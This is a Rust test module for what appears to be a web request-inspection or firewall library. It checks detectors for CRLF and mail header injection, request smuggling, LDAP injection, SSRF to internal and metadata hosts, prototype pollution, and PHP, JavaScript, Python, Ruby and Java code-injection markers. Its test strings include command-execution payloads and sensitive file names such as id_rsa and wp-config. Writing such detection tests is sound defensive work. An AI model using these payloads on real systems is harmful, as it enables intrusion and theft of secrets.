            ("x\r\nContent-Length: 0", q, "crlf"),
            (
                "foobar\r\nContent-Length: 02343432423<html>ftw</html>",
                q,
                "crlf",
            ),
            ("x\r\nX-Forwarded-For: 127.0.0.1", q, "crlf"),
            ("me@x.com\r\nBcc: all@x.com", form, "mail"),
            ("me@x.com\r\nCc: a@b.c\r\nSubject: hi", form, "mail"),
            ("hi\r\nSubject: win\r\nTo: victim@x.com", q, "mail"),
        ] {
            assert_eq!(crlf(a, c).map(|f| f.0), Some(class), "{a:?}");
        }
        for a in [
            "\nPOST / HTTP/1.1",
            "aaa\nGET / HTTP/1.1",
            "aaa\rHEAD http://example.com/ HTTP/1.1",
            "GET http://www.foo.bar HTTP/1.2",
            "GET http://www.foo.bar HTTP/3.2",
            "barGET /a.html HTTP/1.1\r\nSomething: GET /b.html HTTP/1.1\r\nHost: foo.com\r\n\r\n",
        ] {
            assert_eq!(splitting(a).map(|f| f.0), Some("smuggling"), "{a:?}");
        }
        for b in [
            "GET the file over HTTP/1.1",
            "Please GET the file over HTTP/1.1 or HTTP/2",
            "Here is my request:\nGET /api/v1/users HTTP/1.1\nHost: x",
            "We POST /upload with HTTP/2 framing",
            "servers speak HTTP/1.1 and HTTP/2",
        ] {
            assert_eq!(splitting(b), None, "flagged {b:?}");
        }
    }

    #[test]
    fn ldap_filter_breaks_and_mod_proxy() {
        for a in [
            "bar)(&)",
            "x)!(sn=*",
            "eb9adbd87d)!(sn=*",
            "*)!(sn=*",
            "admin)(|",
            "val)&(cn=admin",
            "val)|(uid=*",
            "test) ( & ",
            "test)\t(\t|",
            "value)(gidNumber<=100",
            "john)(sn~=smith",
            "*)(uid=*))(|(uid=*",
            "(cn=x)(uid=admin)",
            "(&(uid=*)(objectClass=*))",
        ] {
            assert_eq!(ldap(a).map(|f| f.0), Some("ldap"), "{a:?}");
        }
        for b in [
            "(see above)(and below)",
            "a)(b",
            "a) (b + c)",
            ":)(",
            "Nice :)(really)",
            "(a|b)",
            "(a|b)&(c|d)",
            "1) open settings (2) save",
            "option a) or b)",
            "x) & y",
            "f(x)(y=2)",
            "g(a)(b=3) is curried",
            "(f)(x=1)",
            "h(t)(n>=0)",
        ] {
            assert_eq!(ldap(b), None, "flagged {b:?}");
        }
        for a in [
            "unix:AAAAAAAAA|http://coreruleset.org/",
            "UNIX:/run/php.sock|fcgi://localhost/",
        ] {
            assert_eq!(mod_proxy_unix(a).map(|f| f.0), Some("ssrf"), "{a:?}");
        }
        for b in [
            "unix: the OS | http://example.com",
            "unix tools | https://example.com/tools",
            "the unix:epoch|seconds",
            "https://en.wikipedia.org/wiki/Unix",
        ] {
            assert_eq!(mod_proxy_unix(b), None, "flagged {b:?}");
        }
    }

    /// `has_proto` lets through every value `proto` reads further: the
    /// ones with `__proto__` or `prototype` (case-sensitive, as `proto`'s
    /// own test).
    #[test]
    fn proto_byte_gate() {
        for v in [
            "",
            "p",
            "proto",
            "prot",
            "__proto__[x]",
            "a.prototype.b",
            "ppproto",
            "PROTOTYPE",
            "__PROTO__",
            "protocol",
            "xprotoy",
            "pppp",
            "prototyp",
            "_proto_",
            "constructor[prototype]",
        ] {
            let needles = v.contains("__proto__") || v.contains("prototype");
            assert!(!needles || has_proto(v.as_bytes()), "{v:?}");
            assert_eq!(has_proto(v.as_bytes()), v.contains("proto"), "{v:?}");
        }
    }

    /// A value for every return of `code` and `js_code`: each passes the
    /// marker gate and is found, in any letter case, as it is past the gate.
    #[test]
    fn code_markers() {
        for v in [
            "2.2250738585072011e-308",
            "_$$ND_FUNC$$_function(){}",
            "{\"__js_function\":\"x\"}",
            "this.constructor.constructor('x')()",
            "[\"constructor\"][\"constructor\"]('x')()",
            "require.main.require('x')",
            "module.constructor._load('x')",
            "module.exports={a:1}",
            "\"$1:constructor:constructor\"",
            "\"$7:Module:prototype\"",
            "\"$3:__proto__:then\"",
            "var a=new Date();do{b=new Date();}while(b-a<20000)",
            "while(new Date);",
            "@{ [ system 'id' ] }",
            "process.env.SECRET",
            "process['env']",
            "require['cache']",
            "global.process.exit()",
            "globalThis.process.exit()",
            "console.log(1)",
            "console[\"log\"](1)",
            "for(;;)",
            "while(1);",
            "require('child_process').exec('id')",
            "process.mainModule.require('x')",
            "process.binding('spawn_sync')",
            "__import__('os').system('id')",
            "os.system('id')",
            "os.popen('id').read()",
            "subprocess.call('id')",
            "exec(compile('x','a','exec'))",
            "Kernel.exec('id')",
            "IO.popen('id')",
            "Kernel.open('|id')",
            "%x(id)",
            "@{[ `id` ]}",
            "Process.spawn('id')",
            "Runtime.getRuntime().exec('id')",
        ] {
            for v in [v.to_string(), v.to_ascii_uppercase()] {
                let marked = CODE_MARKERS.as_ref().is_none_or(|ac| ac.is_match(&v));
                assert!(marked, "{v:?} passes the gate");
                assert_eq!(code(&v), code_marked(&v), "{v:?}");
            }
            assert!(code(v).is_some(), "{v:?} is found");
        }
        for v in [
            "Mozilla/5.0 (X11; Linux x86_64; rv:125.0)",
            "12 O'Connell St.",
            "f(x)",
        ] {
            assert!(
                !CODE_MARKERS.as_ref().is_none_or(|ac| ac.is_match(v)),
                "{v:?}"
            );
            assert_eq!(code_marked(v), None, "{v:?}");
        }
    }

    /// Pieces of every way [`php`] returns, and of near misses: glued at
    /// random they reach each return from many sides.
    const PHP_PIECES: &[&str] = &[
        "<?php",
        "<?",
        "<?=",
        "<?xml",
        " :echo 1;",
        "$_get",
        "$globals",
        "$a",
        "${'a'}",
        "$$b",
        "(",
        ")",
        "system",
        "exec",
        "'sys'",
        ".",
        "'tem'",
        "[system][0]",
        "[",
        "]",
        "{php}",
        "{",
        "}",
        "[php]",
        "[/php]",
        "echo ",
        "memory_limit",
        "=",
        "512m",
        "allow_url_include",
        "on",
        "opcache.jit",
        "file",
        ".php",
        ".phar",
        "sess_0123456789abcdef",
        ".htaccess",
        "id_rsa",
        "wp-config",
        "call_user_func",
        "posix_getpwuid",
        "phpinfo",
        "/*c*/",
        " ",
        "\t",
        "'",
        "\"",
        ";",
        "a",
        "x1",
        "\\x73",
        "->",
        "@",
        "`",
        "0",
    ];

    #[test]
    fn php_gate_passes_every_return() {
        let value = cx(Kind::Value, "query.q");
        let file = cx(Kind::Filename, "body.multipart.f.filename");
        let header = cx(Kind::Header, "header.X-Filename");
        // One value per way `php` returns: each has a gate byte, or is an
        // upload name on a file-name point.
        for (v, c) in [
            ("<?php echo 1;", &value),
            ("<?xml :echo 1;", &value),
            ("x <?", &value),
            ("{php}echo 1;{/php}", &value),
            ("[php]echo 1;[/php]", &value),
            ("$_GET", &value),
            ("$a('id')", &value),
            ("${'a'}", &value),
            ("(system)('id')", &value),
            ("[system][0](ls);", &value),
            ("allow_url_include=1", &value),
            ("memory_limit = 512M", &value),
            ("opcache.jit=on", &value),
            ("system('id')", &value),
            ("phpinfo()", &value),
            ("FOOcall_user_func()", &value),
            ("shell.php", &file),
            ("shell.php", &header),
            (".htaccess", &file),
            ("id_rsa", &file),
            ("sess_0123456789abcdef", &file),
        ] {
            assert!(php_ungated(v, c).is_some(), "no longer a hit: {v:?}");
            assert!(php_may(v, c), "gate refuses {v:?}");
            assert_eq!(php(v, c), php_ungated(v, c), "{v:?}");
        }
        // Values without a gate byte, off file-name points, skip the checks.
        for v in [
            "shell.php",
            "system 'id'",
            "echo hello; ls",
            "a.b.c",
            "phpinfo",
        ] {
            assert!(!php_may(v, &value), "{v:?}");
            assert_eq!(php(v, &value), None, "{v:?}");
        }
    }

    /// [`bare_url`] as it was: the whole value lower-cased up front, the
    /// loopback name looked up lower-cased.
    fn bare_url_oracle(s: &str) -> Option<ClassFound> {
        let t = s.trim();
        if t.len() > 2048 || t.contains(' ') {
            return None;
        }
        let lower = t.to_ascii_lowercase();
        for scheme in ["http:", "https:"] {
            if let Some(rest) = lower.strip_prefix(scheme) {
                let host = url_host(rest.trim_start_matches(['/', '\\']));
                return match internal_host(host) {
                    Some("metadata") => Some(("ssrf", "ssrf.cloud_metadata", 0.9)),
                    Some(_) => Some(("ssrf", "ssrf.internal_host", 0.7)),
                    None => None,
                };
            }
        }
        let (host, path) = t.split_once('/')?;
        let named = host.split(':').next().is_some_and(|h| {
            h.bytes().any(|c| c.is_ascii_alphabetic())
                && (h.contains('.') || LOOPBACK_NAMES.contains(&h.to_ascii_lowercase().as_str()))
        });
        if host.is_empty() || !named || path.contains("://") {
            return None;
        }
        match internal_host(url_host(host)) {
            Some("metadata") => Some(("ssrf", "ssrf.cloud_metadata", 0.8)),
            Some(_) => Some(("ssrf", "ssrf.internal_host", 0.6)),
            None => None,
        }
    }

    /// Pieces of URLs, hosts and near misses, in any letter case.
    const URL_PIECES: &[&str] = &[
        "http:",
        "HTTPS:",
        "Http:",
        "https",
        "//",
        "/",
        "\\",
        ":",
        "://",
        ":\\\\",
        "localhost",
        "LocalHost",
        "lvh.me",
        "LVH.ME",
        "127.0.0.1",
        "169.254.169.254",
        "metadata",
        "10.0.0.1",
        "example.com",
        "a",
        ".",
        " ",
        "@",
        "kubernetes.default",
        "x",
        "8080",
        "é",
        "\u{212a}",
    ];

    /// Each piece alone and after a scheme, as a table.
    #[test]
    fn bare_url_agrees_on_pieces() {
        for a in URL_PIECES {
            for b in URL_PIECES {
                for v in [
                    format!("{a}{b}"),
                    format!("{a}{b}/x"),
                    format!("http://{a}{b}"),
                ] {
                    assert_eq!(bare_url(&v), bare_url_oracle(&v), "{v:?}");
                }
            }
        }
    }

    proptest::proptest! {
        /// `bare_url` without its lower-cased copy finds what it found.
        #[test]
        fn bare_url_agrees_with_the_copying_one(
            picks in proptest::collection::vec(0..URL_PIECES.len(), 0..8),
        ) {
            let v: String = picks.iter().filter_map(|&i| URL_PIECES.get(i).copied()).collect();
            proptest::prop_assert_eq!(bare_url(&v), bare_url_oracle(&v), "{:?}", v);
            let c = cx(Kind::Value, "query.u");
            proptest::prop_assert_eq!(urls(&v, &c), urls_oracle(&v, &c), "{:?}", v);
        }
    }

    /// [`urls`] without its `:` test in front.
    fn urls_oracle(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
        if !gate::has(s, "://") && !gate::has(s, ":\\\\") {
            return bare_url_oracle(s);
        }
        urls(s, cx)
    }

    proptest::proptest! {
        #[test]
        fn php_gate_agrees_with_the_checks(
            picks in proptest::collection::vec(0..PHP_PIECES.len(), 1..8),
        ) {
            let v: String = picks.iter().filter_map(|&i| PHP_PIECES.get(i).copied()).collect();
            for c in [
                cx(Kind::Value, "query.q"),
                cx(Kind::Filename, "body.multipart.f.filename"),
                cx(Kind::Header, "header.X-Filename"),
                cx(Kind::Header, "header.User-Agent"),
            ] {
                proptest::prop_assert_eq!(php(&v, &c), php_ungated(&v, &c), "{:?}", v);
            }
        }
    }

    proptest::proptest! {
        #[test]
        fn js_markers_is_two_memmem_searches(
            b in proptest::collection::vec(
                proptest::prop_oneof![
                    proptest::prelude::Just(b'_'),
                    proptest::prelude::Just(b'$'),
                    proptest::prelude::Just(b'\\'),
                    proptest::prelude::Just(b'u'),
                    proptest::prelude::Just(b'0'),
                    proptest::prelude::any::<u8>(),
                ],
                0..24,
            ),
        ) {
            let want = memchr::memmem::find(&b, b"_$$").is_some()
                || memchr::memmem::find(&b, b"\\u00").is_some();
            proptest::prop_assert_eq!(js_markers(&b), want, "{:?}", b);
        }
    }

    #[test]
    fn js_markers_table() {
        for (b, want) in [
            (&b""[..], false),
            (&b"_$$"[..], true),
            (&b"x_$$ND"[..], true),
            (&b"_$"[..], false),
            (&b"\\u00"[..], true),
            (&b"a\\u0041"[..], true),
            (&b"\\u0"[..], false),
            (&b"\\U00"[..], false),
            (&b"$$_"[..], false),
        ] {
            assert_eq!(js_markers(b), want, "{b:?}");
        }
    }

    /// Values with and without each needle of either set: the union
    /// automaton says yes exactly when one of the two sets does.
    #[test]
    fn java_any_is_markers_or_gadgets() {
        let (Some(any), Some(markers), Some(gadgets)) =
            (JAVA_ANY.as_ref(), JAVA_MARKERS.as_ref(), GADGETS.as_ref())
        else {
            panic!("automata build");
        };
        let mut values = vec![
            String::new(),
            "plain text, nothing java".to_string(),
            "Mozilla/5.0 (X11; Linux x86_64)".to_string(),
        ];
        for n in JAVA_MARKER_NEEDLES.iter().chain(JAVA_GADGETS) {
            values.push(format!("x{}y", n.to_ascii_uppercase()));
            values.push(n.to_string());
            // Cut short by one byte: no longer that needle.
            values.push(n.get(..n.len() - 1).unwrap_or("").to_string());
        }
        for v in &values {
            let want = markers.is_match(v.as_str()) || gadgets.is_match(v.as_str());
            assert_eq!(any.is_match(v.as_str()), want, "{v:?}");
            assert_eq!(java_gated(v, true), java_gated_oracle(v), "{v:?}");
        }
    }

    /// [`java_gated`] as it ran before the union search (both sets searched).
    fn java_gated_oracle(s: &str) -> Option<ClassFound> {
        if JAVA_MARKERS.as_ref().is_none_or(|ac| ac.is_match(s)) {
            if let Some(f) = java_marked(&s.to_ascii_lowercase()) {
                return Some(f);
            }
        } else {
            if s.contains('.') {
                let whole = s.trim();
                for t in dotted_names(s) {
                    let lower = t.to_ascii_lowercase();
                    if let Some(f) = java_name(&lower, t.eq_ignore_ascii_case(whole)) {
                        return Some(f);
                    }
                }
            }
            if GADGETS.as_ref().is_some_and(|ac| ac.is_match(s)) {
                return Some(("java", "java.gadget", 0.8));
            }
        }
        java_base64(s)
    }
}
